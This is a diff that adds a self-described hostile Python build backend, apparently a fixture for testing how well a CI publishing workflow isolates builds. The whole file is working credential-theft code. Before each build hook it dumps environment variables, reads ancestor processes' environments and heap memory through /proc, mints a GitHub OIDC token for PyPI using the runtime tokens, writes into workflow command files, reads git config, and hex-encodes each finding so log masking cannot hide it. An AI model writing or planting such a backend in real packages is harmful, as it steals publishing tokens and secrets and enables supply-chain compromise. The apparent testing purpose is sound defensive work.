@@ -1,0 +1,113 @@
+"""A hostile build backend: before each hook it hunts for credentials, then builds with flit.
+
+It reports each finding as one line `HOSTILE <what> <hex>` (hex, so no log filter can hide a
+secret it found), and tries to write into the workflow's file-command files.
+"""
+
+import json
+import os
+import urllib.request
+
+from flit_core import buildapi
+
+
+def _report(what, data):
+    if isinstance(data, str):
+        data = data.encode("utf-8", "replace")
+    print(f"HOSTILE {what} {data.hex()}", flush=True)
+
+
+def _ancestors():
+    pid, seen = os.getppid(), []
+    while pid > 1 and pid not in seen:
+        seen.append(pid)
+        try:
+            with open(f"/proc/{pid}/status") as status:
+                pid = int(next(l for l in status if l.startswith("PPid:")).split()[1])
+        except (OSError, StopIteration, ValueError):
+            break
+    return seen
+
+
+def _try_memory(pid):
+    """Read the heap of another process, as a debugger would."""
+    try:
+        with open(f"/proc/{pid}/maps") as maps:
+            regions = [l.split()[0] for l in maps if "[heap]" in l or "rw-p" in l][:40]
+        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
+            chunks = []
+            for region in regions:
+                start, end = (int(x, 16) for x in region.split("-"))
+                mem.seek(start)
+                chunks.append(mem.read(min(end - start, 4 << 20)))
+        return b"".join(chunks)
+    except (OSError, ValueError, OverflowError):
+        return None
+
+
+def _hunt():
+    _report("uid", str(os.getuid()))
+    _report("environ", json.dumps(dict(os.environ)))
+    found_env = dict(os.environ)
+    for pid in _ancestors():
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as environ:
+                raw = environ.read()
+            _report(f"ancestor-environ-{pid}", raw)
+            for item in raw.split(b"\0"):
+                name, _, value = item.decode("utf-8", "replace").partition("=")
+                found_env.setdefault(name, value)
+        except OSError:
+            _report(f"ancestor-environ-closed-{pid}", "")
+        memory = _try_memory(pid)
+        if memory is not None:
+            _report(f"ancestor-memory-{pid}", str(len(memory)))
+            open_mem = os.environ.get("HOSTILE_MEMORY_DUMP")
+            if open_mem:
+                with open(open_mem, "ab") as dump:
+                    dump.write(memory)
+        else:
+            _report(f"ancestor-memory-closed-{pid}", "")
+    url, token = found_env.get("ACTIONS_ID_TOKEN_REQUEST_URL"), found_env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
+    token = token or found_env.get("ACTIONS_RUNTIME_TOKEN")
+    if url and token:
+        try:
+            request = urllib.request.Request(url + "&audience=pypi", headers={"Authorization": f"bearer {token}"})
+            _report("oidc", urllib.request.urlopen(request, timeout=5).read())
+        except Exception as exc:  # noqa: BLE001
+            _report("oidc-refused", repr(exc))
+    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV"):
+        path = found_env.get(name)
+        if path:
+            try:
+                with open(path, "a") as commands:
+                    commands.write("published=hijacked\n")
+                _report(f"wrote-{name}", path)
+            except OSError as exc:
+                _report(f"write-refused-{name}", repr(exc))
+    workspace = found_env.get("GITHUB_WORKSPACE")
+    for config in (".git/config", os.path.join(workspace or "/nonexistent", ".git/config")):
+        try:
+            with open(config) as text:
+                _report(f"git-config-{config}", text.read())
+        except OSError:
+            pass
+    print("::warning::forged by the backend", flush=True)
+
+
+def get_requires_for_build_sdist(config_settings=None):
+    _hunt()
+    return buildapi.get_requires_for_build_sdist(config_settings)
+
+
+def get_requires_for_build_wheel(config_settings=None):
+    _hunt()
+    return buildapi.get_requires_for_build_wheel(config_settings)
+
+
+def build_sdist(sdist_directory, config_settings=None):
+    return buildapi.build_sdist(sdist_directory, config_settings)
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    return buildapi.build_wheel(wheel_directory, config_settings, metadata_directory)
